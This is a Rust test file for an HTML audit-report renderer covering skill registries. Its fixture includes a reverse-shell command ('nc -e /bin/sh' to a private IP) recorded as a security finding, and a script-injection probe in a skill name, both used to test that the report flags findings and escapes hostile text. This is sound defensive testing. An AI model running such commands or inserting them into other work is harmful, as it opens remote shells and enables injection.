//! The report from a hand-built audit of four skills in two registries: r2 holds a copy of
//! r1's `alpha` with one changed line, `alpha → gamma → delta` are related, `delta` is slop.
#![allow(clippy::unwrap_used, reason = "a panic is the test failure")]

use serde_json::json;
use skg_model::Skill;

use super::*;

fn from<T: serde::de::DeserializeOwned>(v: serde_json::Value) -> T {
    serde_json::from_value(v).unwrap()
}

struct Fixture {
    skills: Vec<Skill>,
    relations: Vec<Edge>,
    diagnostics: Vec<Diagnostic>,
    members: Vec<Member>,
    clusters: Vec<Cluster>,
    scores: Vec<Score>,
    metrics: Vec<MetricRow>,
    communities: Vec<CommunityRow>,
    findings: Vec<skg_model::security::Finding>,
    verdicts: Vec<skg_model::security::Verdict>,
}

fn member(id: &str, cluster: &str, role: &str) -> Member {
    let (registry, root) = id.split_once(':').unwrap();
    from(
        json!({"id": id, "registry": registry, "path": format!("{root}/SKILL.md"),
        "name": root, "cluster_id": cluster, "role": role, "variant_of": null, "quality": 0.5,
        "quality_source": "completeness", "nearest_description": 0.9,
        "reason": if role == "duplicate" { "body Jaccard 0.95" } else { "" }}),
    )
}

fn score(id: &str, s: f64, reasons: &[&str]) -> Score {
    let (registry, root) = id.split_once(':').unwrap();
    from(
        json!({"id": id, "registry": registry, "path": format!("{root}/SKILL.md"),
        "slop_score": s, "quarantined": s < 0.4, "threshold": 0.4, "reasons": reasons,
        "contributions": [], "features": []}),
    )
}

fn edge(src: &str, dst: &str) -> Edge {
    from(
        json!({"src": src, "dst": dst, "kind": "depends_on", "confidence": 0.8,
        "source": "INFERRED", "extractor": "required-prose", "evidence": []}),
    )
}

fn fixture(rscore: f64) -> Fixture {
    let body = "Step one.\nStep two.\nStep three.\n";
    Fixture {
        skills: vec![
            Skill::from_text("r1", "alpha", "alpha", "Does alpha things.", body),
            Skill::from_text(
                "r2",
                "alpha",
                "alpha",
                "Does alpha things.",
                &body.replace("two", "2"),
            ),
            Skill::from_text(
                "r1",
                "gamma",
                "gamma<script>alert(1)</script>",
                "Gamma.",
                "x",
            ),
            Skill::from_text("r2", "delta", "delta", "d", "y"),
        ],
        relations: vec![edge("r1:alpha", "r1:gamma"), edge("r1:gamma", "r2:delta")],
        diagnostics: vec![from(
            json!({"registry": "r1", "path": "gamma/SKILL.md", "line": 3,
            "severity": "warning", "code": "yaml-unquoted-colon", "message": "repaired"}),
        )],
        members: vec![
            member("r1:alpha", "r1:alpha", "canonical"),
            member("r2:alpha", "r1:alpha", "duplicate"),
            member("r1:gamma", "r1:gamma", "canonical"),
            member("r2:delta", "r2:delta", "canonical"),
        ],
        clusters: vec![from(
            json!({"cluster_id": "r1:alpha", "canonical_registry": "r1",
            "canonical_path": "alpha/SKILL.md", "size": 2, "registries": ["r1", "r2"],
            "members": ["r1:alpha", "r2:alpha"], "variants": []}),
        )],
        scores: vec![
            score("r1:alpha", 0.9, &[]),
            score("r2:alpha", 0.9, &[]),
            score("r1:gamma", 0.7, &[]),
            score("r2:delta", 0.1, &["body_words_log (1.10) -2.00"]),
        ],
        metrics: vec![from(
            json!({"scope": "(all)", "nodes": 2, "edges": 1, "isolated": 0,
            "isolated_nodes": [], "tlis": 0.0, "max_degree": 1, "mean_degree": 1.0, "gnci": 1.0,
            "communities": 1, "named_communities": 0, "cfi": 1.0, "rscore": rscore,
            "risk": if rscore < 0.4 { "high" } else { "ok" }, "failure_modes": ["isolation"],
            "god_nodes": []}),
        )],
        communities: vec![from(json!({"scope": "(all)", "community": 1, "size": 2,
            "label": "alpha tools", "members": ["r1:alpha", "r1:gamma"]}))],
        findings: vec![from(
            json!({"skill_id": "r2:delta", "rule": "SKG-SHELL-001",
            "category": "reverse-shell", "severity": "critical", "base_severity": "critical",
            "confidence": 0.9, "path": "delta/SKILL.md", "line": 7,
            "snippet": "nc -e /bin/sh 10.0.0.1 4444 <b>", "message": "`nc -e` hands a shell to the connection",
            "context": [], "file_hash": "00"}),
        )],
        verdicts: vec![
            from(
                json!({"skill_id": "r1:alpha", "registry": "r1", "verdict": "safe", "score": 0.0,
                "findings": 0, "rules": [], "top": ""}),
            ),
            from(
                json!({"skill_id": "r2:delta", "registry": "r2", "verdict": "unsafe", "score": 0.873,
                "findings": 1, "rules": ["SKG-SHELL-001"], "top": "SKG-SHELL-001 critical"}),
            ),
        ],
    }
}

fn render_fixture(f: &Fixture) -> String {
    let input = Input {
        title: "two registries",
        registries: &[],
        skills: &f.skills,
        relations: &f.relations,
        diagnostics: &f.diagnostics,
        members: &f.members,
        clusters: &f.clusters,
        scores: &f.scores,
        metrics: &f.metrics,
        communities: &f.communities,
        findings: &f.findings,
        verdicts: &f.verdicts,
    };
    render(&input, &Options::default()).unwrap()
}

#[test]
fn every_section_is_rendered_with_its_rows() {
    let html = render_fixture(&fixture(0.3));
    for id in [
        "summary",
        "registries",
        "duplicates",
        "slop",
        "graph",
        "security",
        "diagnostics",
    ] {
        assert!(
            html.contains(&format!("<section id=\"{id}\">")),
            "section {id}"
        );
    }
    // RScore 0.3 is below the default gate 0.4.
    assert!(html.contains("the gate fails"));
    assert!(html.contains("<span class=\"tag bad\">isolation</span>"));
    // The copy's changed line, both sides.
    assert!(
        html.contains("<span class=\"d\">-Step two.</span>"),
        "{html}"
    );
    assert!(html.contains("<span class=\"a\">+Step 2.</span>"));
    // The quarantined skill with its reason; the diagnostic with path:line.
    assert!(html.contains("body_words_log (1.10) -2.00"));
    assert!(html.contains("r1/gamma/SKILL.md:3"));
    // The picture: the two related routable skills of the community (delta is quarantined
    // and not in the community, so alpha–gamma is the one edge drawn).
    let picture = &html[html.find("<svg class=\"skg\"").unwrap()..];
    let picture = &picture[..picture.find("</svg>").unwrap()];
    assert_eq!(picture.matches("<circle cx=").count(), 2);
    assert!(html.contains("community #1 · alpha tools"));
    // One copy held in r2 of a canonical in r1.
    let flows = &html[html.find("id=\"t-flows\"").unwrap()..];
    let r2 = &flows[flows.find("<b>r2</b>").unwrap()..];
    let r2 = &r2[..r2.find("</tr>").unwrap()];
    assert!(r2.contains(">1</td>"), "{r2}");
}

#[test]
fn the_security_section_lists_the_unsafe_package_with_its_evidence_escaped() {
    let html = render_fixture(&fixture(0.3));
    let sec = &html[html.find("<section id=\"security\">").unwrap()..];
    let sec = &sec[..sec.find("</section>").unwrap()];
    assert!(sec.contains("<b>1</b> unsafe"), "{sec}");
    assert!(sec.contains("r2:delta"));
    assert!(sec.contains("score 0.87"));
    assert!(sec.contains("delta/SKILL.md:7"));
    // The evidence is highlighted and escaped.
    assert!(
        sec.contains("<mark class=\"evidence\">nc -e /bin/sh 10.0.0.1 4444 &lt;b&gt;</mark>"),
        "{sec}"
    );
    // The category table: reverse-shell, one in r2, none in r1.
    let row = &sec[sec.find("<td>reverse-shell</td>").unwrap()..];
    let row = &row[..row.find("</tr>").unwrap()];
    assert_eq!(row.matches("class=\"num\">0<").count(), 1, "{row}");
    assert_eq!(row.matches("class=\"num\">1<").count(), 2, "{row}");
    // The safe package is not listed.
    assert!(!sec.contains("r1:alpha"));
}

#[test]
fn a_passing_rscore_says_so() {
    let html = render_fixture(&fixture(0.8));
    assert!(html.contains("the gate passes"));
}

#[test]
fn skill_text_is_escaped_and_nothing_is_fetched() {
    let html = render_fixture(&fixture(0.3));
    assert!(!html.contains("<script>alert"));
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    // Self-contained: no external scripts, styles, images or fonts.
    for needle in ["src=\"http", "href=\"http", "url(http", "@import"] {
        assert!(!html.contains(needle), "{needle}");
    }
    assert_eq!(html.matches("<script>").count(), 1);
    // Paths are not entity-encoded (`/` needs no escaping in HTML text).
    assert!(!html.contains("&#x2f;"));
}

#[test]
fn same_input_same_bytes() {
    let f = fixture(0.3);
    assert_eq!(render_fixture(&f), render_fixture(&f));
}

#[test]
fn empty_input_renders() {
    let input = Input {
        title: "empty",
        registries: &[],
        skills: &[],
        relations: &[],
        diagnostics: &[],
        members: &[],
        clusters: &[],
        scores: &[],
        metrics: &[],
        communities: &[],
        findings: &[],
        verdicts: &[],
    };
    let html = render(&input, &Options::default()).unwrap();
    assert!(html.contains("<section id=\"graph\">"));
    assert!(html.contains("nothing to draw"));
}
